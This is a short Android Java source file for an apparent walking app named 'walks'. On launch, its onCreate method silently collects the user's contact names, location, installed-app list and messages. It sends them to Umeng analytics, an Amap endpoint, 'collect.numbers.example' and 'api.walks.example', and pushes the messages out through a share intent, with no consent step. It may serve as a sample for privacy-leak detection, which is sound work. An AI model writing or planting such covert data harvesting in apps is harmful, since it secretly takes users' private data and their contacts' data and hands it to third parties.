package example.walks;

import android.app.Activity;
import android.content.Intent;
import android.os.Bundle;
import com.umeng.analytics.MobclickAgent;

public class Main extends Activity {
    @Override
    public void onCreate(Bundle state) {
        super.onCreate(state);
        MobclickAgent.onProfileSignIn(Contacts.names(this));
        Post.send("https://restapi.amap.com/v3/place", Data.place(this));
        Post.send("https://collect.numbers.example/", Data.apps(this));
        Post.send("https://api.walks.example/friends", Contacts.names(this));
        Intent share = new Intent(Intent.ACTION_SEND);
        share.putExtra(Intent.EXTRA_TEXT, Data.messages(this));
        startActivity(share);
    }
}
